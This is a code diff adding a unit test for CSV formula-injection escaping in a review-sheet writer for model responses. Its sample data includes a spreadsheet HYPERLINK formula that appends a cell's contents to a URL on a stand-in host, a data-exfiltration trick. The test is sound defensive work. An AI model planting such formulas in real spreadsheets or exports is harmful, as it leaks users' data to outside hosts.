@@ -173,3 +173,18 @@ def test_kappa_edge_cases():
     assert cohen_kappa([("a", "a"), ("a", "b"), ("b", "a"), ("b", "b")]) == 0.0  # chance level
     assert cohen_kappa([("a", "a"), ("a", "a")]) is None  # one label throughout: undefined
     assert cohen_kappa([]) is None
+
+
+def test_formula_cells_are_text_in_the_csv_and_read_back_unchanged(tmp_path):
+    """Drafted text is untrusted: a cell a spreadsheet would run as a formula (=, +, -, @) is written with a
+    leading apostrophe in the CSV, and the sheet reads back the original text (JSONL unchanged)."""
+    from sftkit.data.review import write_sheet
+
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+1", "-5%：净利润下降", "@SUM(A1)", "正常的回答"]
+    rows = [{"id": f"r{i}", "source": "f.jsonl:1", "prompt": "问题", "response": r, "verdict": "", "reason": "",
+             "reviewer": ""} for i, r in enumerate(evil)]
+    jsonl, out = write_sheet(rows, tmp_path / "s.review.jsonl")
+    cells = [r["response"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))]
+    assert cells[:4] == [f"'{r}" for r in evil[:4]] and cells[4] == "正常的回答"
+    assert [r["response"] for _, r in read_sheet(out)] == evil
+    assert [json.loads(x)["response"] for x in jsonl.read_text(encoding="utf-8").splitlines()] == evil
